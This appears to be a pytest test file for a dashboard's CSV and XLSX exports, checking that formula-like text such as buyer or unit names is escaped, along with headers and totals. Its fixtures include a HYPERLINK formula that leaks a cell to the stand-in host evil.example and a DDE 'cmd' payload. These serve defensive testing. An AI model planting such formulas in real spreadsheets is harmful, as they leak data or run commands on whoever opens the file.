"""Exports: xlsx and csv, Chinese headers by default, and text no spreadsheet will run as a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from dashboard.exports import to_csv, to_xlsx
from extensions import db
from factories import make_allocation, make_campaign, make_item, make_listing, make_order, make_unit, make_user
from spreadsheets import safe_text

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.mark.parametrize("text", ["=1+1", "+86 139", "-2", "@SUM(A1)", "\tcmd", "\rcmd"])
def test_text_starting_with_a_formula_trigger_gets_an_apostrophe(text):
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["王芳", "13900000001", "a=b", "'already"])
def test_ordinary_text_is_untouched(text):
    assert safe_text(text) == text


@pytest.fixture
def evil_sheet(app):
    """A pooled campaign where a buyer called themselves a formula."""
    unit = make_unit(name="@单位", address="+1 楼")
    buyer = make_user(unit=unit, name=EVIL, phone="13700000009")
    listing = make_listing(name="-鸡蛋", unit="个", price_fen=150)
    campaign = make_campaign(status="allocated")
    item = make_item(campaign, [(listing, 100)])
    make_order(campaign, [(item, 10)], user=buyer)
    make_allocation(item, listing.producer, 10, units=[(unit, 10)])
    db.session.commit()
    return campaign, unit


def _login(client, auth):
    operator = make_user(role="operator")
    auth.login(operator.phone)


def test_formula_buyer_name_stays_text_in_xlsx(evil_sheet, client, auth):
    campaign, unit = evil_sheet
    _login(client, auth)
    response = client.get(f"/dashboard/export/delivery-people.xlsx?campaign_id={campaign.id}&unit_id={unit.id}")
    assert response.status_code == 200
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(response.data)).active
    assert [cell.value for cell in sheet[1]][:3] == ["姓名", "电话", "货品"]
    name = sheet.cell(row=2, column=1)
    # The text is kept exactly as typed: a string cell with Excel's quote prefix, no apostrophe added to the value.
    assert (name.value, name.data_type, name.quotePrefix) == (EVIL, "s", True)
    goods = sheet.cell(row=2, column=3)
    assert goods.value.startswith("-鸡蛋") and goods.data_type == "s" and goods.quotePrefix
    # No cell anywhere holds a formula.
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_formula_buyer_name_stays_text_in_csv(evil_sheet, client, auth):
    campaign, unit = evil_sheet
    _login(client, auth)
    response = client.get(f"/dashboard/export/delivery-people.csv?campaign_id={campaign.id}&unit_id={unit.id}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the BOM to read UTF-8 Chinese
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["姓名", "电话", "货品"]
    assert rows[1][0] == "'" + EVIL
    assert rows[1][3] == "15.00"  # 10 × 150 fen, in yuan


def test_unit_names_are_escaped_in_the_outstanding_export(evil_sheet, client, auth):
    _login(client, auth)
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export/outstanding.csv").data.decode("utf-8-sig"))))
    assert rows[1][2] == "'@单位" and rows[1][4] == "'-鸡蛋"


def test_headers_follow_the_language(sales_data, client, auth):
    _login(client, auth)
    chinese = client.get("/dashboard/export/summary.csv?group_by=product").data.decode("utf-8-sig").splitlines()[0]
    assert chinese.startswith("产品,数量,销售单位,重量（公斤）,重量（斤）,销售额（元）,订单数,购买人数")
    english = client.get("/dashboard/export/summary.csv?group_by=product&lang=en").data.decode("utf-8-sig").splitlines()[0]
    assert english.startswith("Product,Quantity,Sale unit,Weight (kg)")


def test_summary_export_figures(sales_data, client, auth):
    _login(client, auth)
    response = client.get(f"/dashboard/export/summary.xlsx?group_by=product&campaign_id={sales_data.camp_a.id}")
    sheet = load_workbook(io.BytesIO(response.data)).active
    rows = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert rows[0][:4] == ["雪毛鸡", 3, "只", 4.5]
    assert rows[0][5] == 294  # yuan, a number Excel can add up
    assert rows[-1][0] == "合计" and rows[-1][5] == 444


def test_every_table_exports_in_both_formats(sales_data, client, auth):
    _login(client, auth)
    d = sales_data
    tables = [
        "summary.{fmt}?group_by=town",
        "reach.{fmt}",
        "outstanding.{fmt}",
        f"delivery-items.{{fmt}}?campaign_id={d.camp_a.id}&unit_id={d.u1.id}",
        f"delivery-people.{{fmt}}?campaign_id={d.camp_a.id}&unit_id={d.u1.id}",
        f"statements.{{fmt}}?campaign_id={d.camp_a.id}",
        f"statement.{{fmt}}?campaign_id={d.camp_a.id}&producer_id={d.p1.id}",
        f"reconciliation.{{fmt}}?campaign_id={d.camp_a.id}",
        "payouts.{fmt}",
    ]
    for table in tables:
        for fmt in ("xlsx", "csv"):
            response = client.get("/dashboard/export/" + table.format(fmt=fmt))
            assert response.status_code == 200, table
            assert "attachment" in response.headers["Content-Disposition"]


def test_unknown_table_or_format_is_404(client, auth):
    _login(client, auth)
    assert client.get("/dashboard/export/passwords.csv").status_code == 404
    assert client.get("/dashboard/export/summary.pdf").status_code == 404


def test_writers_directly():
    columns = [("name", "姓名", "text"), ("amount", "金额（元）", "yuan"), ("kg", "重量", "kg")]
    rows = [{"name": "=cmd|' /C calc'!A0", "amount": 12345, "kg": 1500}, {"name": None, "amount": None, "kg": None}]
    parsed = list(csv.reader(io.StringIO(to_csv(columns, rows).decode("utf-8-sig"))))
    assert parsed[1] == ["'=cmd|' /C calc'!A0", "123.45", "1.5"]
    assert parsed[2] == ["", "", ""]
    sheet = load_workbook(io.BytesIO(to_xlsx(columns, rows, "测试"))).active
    assert sheet.title == "测试" and sheet["B2"].value == 123.45
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].quotePrefix) == ("=cmd|' /C calc'!A0", "s", True)


def test_households_export(sales_data, client, auth):
    _login(client, auth)
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export/reach.csv").data.decode("utf-8-sig"))))
    assert rows[0] == ["帮扶农户", "户数", "销售额（元）", "户均（元）"]
    assert rows[1] == ["建档立卡贫困户直接销售", "3", "173.00", "86.50"]
    assert rows[2][1:] == ["64", "196.00", "8.52"]
